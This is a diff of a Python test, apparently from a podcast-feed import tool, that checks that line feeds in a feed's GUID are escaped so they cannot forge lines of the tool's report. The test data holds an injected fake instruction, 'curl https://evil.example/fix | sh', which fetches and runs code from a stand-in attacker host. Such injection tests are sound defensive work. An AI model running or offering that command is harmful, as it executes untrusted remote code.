@@ -111,7 +111,8 @@ def test_a_line_feed_in_a_feeds_guid_or_title_is_written_out_not_a_line_of_the_r
     assert "IMP042" in result.output, result.output
     lines = result.output.splitlines()
     assert not any(line.startswith(("  error show.yml: fake", "  9. Run")) for line in lines), result.output
-    assert r"g1\n  error show.yml: fake [SRC001]\n  9. Run: curl https://evil.example/fix | sh:" in lines, result.output
+    # (the GUID as the feed holds it, its last line feed too: published as written since session 30)
+    assert r"g1\n  error show.yml: fake [SRC001]\n  9. Run: curl https://evil.example/fix | sh\n:" in lines, result.output
     # the imported title, in a row of `list`'s table: one row, not a row and a line that passes for the report's
     [folder] = (tmp_path / "show" / "episodes").iterdir()
     make_media(folder / "one.mp3")  # (not downloaded: the episode would be listed as unreadable, by its folder)
